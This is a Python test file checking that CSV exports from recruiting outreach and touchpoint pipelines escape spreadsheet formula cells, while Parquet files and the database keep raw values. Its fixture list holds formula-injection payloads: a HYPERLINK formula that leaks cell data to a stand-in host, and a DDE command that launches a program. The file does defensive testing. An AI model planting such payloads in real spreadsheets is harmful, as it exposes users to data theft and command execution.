"""Every CSV a person opens escapes formula cells; Parquet and the database keep raw values."""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path

import duckdb
import polars as pl
import pytest

from orchestration.matching.exports import write_export
from orchestration.nurture.export import export_touchpoints
from orchestration.spreadsheet_csv import escape_formula, write_spreadsheet_csv

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Open profile")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\tTabbed",
    "\rReturned",
]
PLAIN = ["Ana Straße", "José Müller", "O'Brien", "Smith-Jones", "1+1", ""]


def csv_column(path: Path, column: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [row[column] for row in csv.DictReader(handle)]


@pytest.mark.parametrize("value", FORMULA_NAMES)
def test_a_formula_cell_is_escaped(value: str) -> None:
    assert escape_formula(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_is_left_alone(value: str) -> None:
    assert escape_formula(value) == value


def test_writer_escapes_text_only_and_joins_lists(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "name": [*FORMULA_NAMES, *PLAIN, None],
            "score": [-1.5] * 13,
            "skills": [["=cmd", "go"]] * 13,
        }
    )
    path = tmp_path / "list.csv"
    write_spreadsheet_csv(frame, path)
    names = csv_column(path, "name")
    assert names[: len(FORMULA_NAMES)] == ["'" + v for v in FORMULA_NAMES]
    assert names[len(FORMULA_NAMES) : -1] == PLAIN
    assert set(csv_column(path, "score")) == {"-1.5"}  # numbers stay numbers
    assert set(csv_column(path, "skills")) == {"'=cmd; go"}
    assert not list(tmp_path.glob(".*.tmp"))


def test_outreach_export_escapes_the_csv_and_keeps_parquet_raw(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "rank": range(1, 5),
            "contact_id": [f"c{i}" for i in range(4)],
            "full_name": FORMULA_NAMES[:4],
            "best_email": ["a@example.org"] * 4,
            "score": [0.9, 0.8, 0.7, 0.6],
            "reason": ["skills"] * 4,
            "segment": ["pool"] * 4,
            "draft_message": ["[DRAFT] Hi"] * 4,
        }
    )
    files = write_export(frame, tmp_path, "greenhouse-1", datetime(2026, 12, 1))
    assert csv_column(files.csv, "full_name") == ["'" + v for v in FORMULA_NAMES[:4]]
    assert pl.read_parquet(files.parquet)["full_name"].to_list() == FORMULA_NAMES[:4]


def test_touchpoint_export_escapes_the_csv_and_keeps_parquet_raw(tmp_path: Path) -> None:
    con = duckdb.connect(str(tmp_path / "t.duckdb"))
    con.execute("create schema segments; create schema gdpr")
    con.execute(
        "create table gdpr.outreach_eligibility as "
        "select 'c' || i as contact_id, true as can_contact from range(4) t(i)"
    )
    con.execute(
        "create table segments.touchpoints_due (as_of_date date, contact_id varchar, "
        "segment_name varchar, step integer, step_name varchar, "
        "first_name varchar, also_due varchar[], "
        "skills varchar[])"
    )
    for i, name in enumerate(FORMULA_NAMES[:4]):
        con.execute(
            "insert into segments.touchpoints_due values "
            "(date '2026-12-01', ?, 'pool', 1, 'intro', ?, ['x'], ['go', 'sql'])",
            [f"c{i}", name],
        )
    export = export_touchpoints(con, tmp_path / "out", date(2026, 12, 1))
    assert export.rows == 4
    assert csv_column(export.csv_path, "first_name") == ["'" + v for v in FORMULA_NAMES[:4]]
    assert set(csv_column(export.csv_path, "skills")) == {"go; sql"}
    raw = pl.read_parquet(export.parquet_path)
    assert raw["first_name"].to_list() == FORMULA_NAMES[:4]
    assert con.execute(
        "select count(*) from segments.touchpoints_due where first_name like '=%'"
    ).fetchall() == [(1,)]  # the database keeps raw values


def test_unescape_reverses_only_what_the_writer_escaped() -> None:
    from orchestration.spreadsheet_csv import escape_formula, unescape_formula

    for cell in ("=SUM(A1)", "+49 30 1234", "-x", "@home", "plain", "'quoted already", None):
        assert unescape_formula(escape_formula(cell)) == cell
    assert unescape_formula("'not a formula") == "'not a formula"
